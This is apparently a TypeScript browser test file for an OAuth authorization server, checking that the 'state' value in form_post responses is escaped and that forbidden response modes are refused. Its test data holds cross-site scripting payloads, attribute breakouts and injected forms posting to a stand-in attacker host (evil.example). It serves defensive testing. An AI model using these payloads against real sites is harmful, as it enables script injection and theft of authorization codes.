import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { TestServer } from '../support/a-server.ts'
import { apps } from '../support/app.ts'
import { answerIn, ask } from '../support/ask.ts'
import { withBrowser } from '../support/browser.ts'
import { aWatchedServer } from '../support/watched-server.ts'

/** Values that try to break out of an HTML attribute, or that careless escaping would change. */
const hostile = [
  '"><script>document.title="owned"</script>',
  "'><img src=x onerror=\"document.title='owned'\">",
  '"/><form action="https://evil.example/"><input name="code',
  '" autofocus onfocus="document.title=\'owned\'" x="',
  '</form><form action="https://evil.example/" method="post">',
  '<!-- --><![CDATA[ ]]></textarea></title></script><script>document.title="owned"</script>',
  '&quot;&#34;&lt;&amp;amp;&nbsp;&notit;&',
  'javascript:alert(1)',
  '%22%3E%3Cscript%3E',
  '{{7*7}}#{7*7}<%= 7*7 %>$',
  'a+b c&d=e;f',
  '   around   ',
  '\u202Etxet\u2066 \u00e9\u0301 \ufeff \u{1F511} \uffff',
  '\\" \\u0022 \\x22 `',
  'x'.repeat(4000),
]

/** Line breaks: a browser posts each as CR LF, whatever the page holds, so only the page is checked. */
const broken = ['line\nfeed', 'carriage\rreturn', 'both\r\nof them', '\n', '\u0085\u2028\u2029', 'tab\there']

const callback = 'https://shop.example/callback'

/** Routes a page's requests to this server, and records what the page posts to the app. */
async function connected(page: import('playwright-core').Page, server: TestServer) {
  const posted: { url: string; fields: URLSearchParams }[] = []
  await page.route('**/*', async (route) => {
    const request = route.request()
    if (new URL(request.url()).origin === server.issuer) {
      const answer = await ask(server, request.url(), { headers: { 'user-agent': 'a browser' } })
      return route.fulfill({
        status: answer.status,
        headers: Object.fromEntries(answer.headers),
        body: answer.html,
      })
    }
    posted.push({ url: request.url(), fields: new URLSearchParams(request.postData() ?? '') })
    return route.fulfill({ status: 200, contentType: 'text/html', body: '<title>the app</title>' })
  })
  return posted
}

function refusal(server: TestServer, state: string): string {
  return apps.printShop(server).request({ response_mode: 'form_post', prompt: 'none', state }).url
}

test(
  'markup in state arrives unchanged and is never interpreted (threat A9)',
  withBrowser(async ({ newPage }) => {
    await using server = await aWatchedServer()
    for (const javaScript of [true, false]) {
      const page = await newPage({ javaScript })
      const posted = await connected(page, server)
      for (const state of hostile) {
        await page.goto(refusal(server, state))
        if (!javaScript) {
          assert.equal(await page.locator('form').count(), 1)
          assert.equal(await page.locator('script').count(), 1)
          await page.locator('form button').click()
        }
        await page.waitForURL(callback)
        const { url, fields } = posted.pop() ?? assert.fail('nothing was posted')
        assert.equal(url, callback)
        assert.deepEqual(posted, [], 'posted once, and nowhere else')
        assert.deepEqual(fields.getAll('state'), [state])
        assert.deepEqual([...fields.keys()].sort(), ['error', 'error_description', 'iss', 'state'])
        assert.equal(await page.title(), 'the app')
      }
    }
  }),
)

test(
  'line breaks in state are unchanged in the page (Form Post Response Mode §2)',
  withBrowser(async ({ newPage }) => {
    await using server = await aWatchedServer()
    const page = await newPage({ javaScript: false })
    await connected(page, server)
    for (const state of [...hostile, ...broken]) {
      await page.goto(refusal(server, state))
      assert.equal(await page.locator('input[name=state]').inputValue(), state)
      assert.equal(await page.locator('input').count(), 4)
    }
  }),
)

test('a response never uses a response mode that its response type forbids (Multiple Response Types §3.0)', async () => {
  await using server = await aWatchedServer()
  const shop = apps.printShop(server)
  const types = ['token', 'id_token', 'id_token token', 'code token', 'code id_token', 'code id_token token']
  for (const type of [...types, 'token code', 'CODE', 'code code', 'code,token', ' code', 'constructor']) {
    for (const mode of [
      undefined,
      'query',
      'fragment',
      'form_post',
      'query.jwt',
      'web_message',
      '__proto__',
    ]) {
      const request = { response_type: type, response_mode: mode, nonce: 'n' }
      const { status, location, html } = await ask(server, shop.request(request).url)
      const message = `${type} by ${mode}`
      if (mode === 'form_post') {
        assert.equal(status, 200, message)
        assert.match(html, /name="error" value="unsupported_response_type"/, message)
      } else if (mode === 'query.jwt' && !/token/.test(type)) {
        assert.match(location ?? '', /^[^?#]+\?response=[\w-]+\.[\w-]+\.[\w-]+$/, message)
        continue
      } else {
        assert.equal(answerIn(location).get('error'), 'unsupported_response_type', message)
        const fragment = mode === 'fragment' || /token/.test(type)
        assert.ok(location?.startsWith(callback + (fragment ? '#' : '?')), `${message}: ${location}`)
      }
      assert.doesNotMatch(`${location} ${html}`, /access_token=|id_token=|vk_at_|vk_code_|eyJ/, message)
    }
  }
})
